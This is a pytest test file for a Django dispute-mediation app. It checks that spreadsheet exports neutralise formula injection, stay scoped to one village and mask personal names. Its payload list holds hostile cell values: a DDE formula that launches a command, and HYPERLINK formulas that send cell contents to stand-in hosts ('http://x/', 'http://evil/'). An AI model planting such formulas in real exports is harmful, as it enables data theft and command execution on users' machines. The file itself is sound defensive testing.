import io

import openpyxl
import pytest
from django.urls import reverse

from cases.exports import neutralise_cell, write_xlsx
from tests.dispute_helpers import new_dispute

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
    "\t=1", "\r=1", "\x00=1", "＝1+1", "  =1", "\n=1",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_triggers_are_neutralised(payload):
    assert neutralise_cell(payload).startswith("'")


def test_plain_values_stay():
    assert neutralise_cell("诸暨〔2026〕调字第0001号") == "诸暨〔2026〕调字第0001号"
    assert neutralise_cell(12) == 12 and neutralise_cell(None) is None


def test_no_formula_cell_survives_a_round_trip():
    data = write_xlsx(["内容", "数量"], [[p, 3] for p in PAYLOADS], "测试")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert not any(isinstance(c.value, str) and c.value.startswith("=") for c in cells)
    assert [c.value for c in sheet["B"][1:]] == [3] * len(PAYLOADS)
    assert sheet["A1"].value == "内容"


@pytest.mark.django_db
def test_dispute_export_is_scoped_masked_and_neutralised(client, demo):
    new_dispute(demo["xianjin_mediator"], summary='=HYPERLINK("http://evil/?"&A1,"点我")')
    new_dispute(demo["yangchun_mediator"], village="yangchun", summary="阳春村的纠纷")
    client.force_login(demo["xianjin_grid_worker"])
    response = client.get(reverse("disputes:export"))
    assert "no-store" in response["Cache-Control"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert len(values) == 1  # the other village's dispute is not exported
    assert values[0][1].startswith("'=HYPERLINK")
    assert "张*明" in values[0][2] and "张三明" not in values[0][2]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
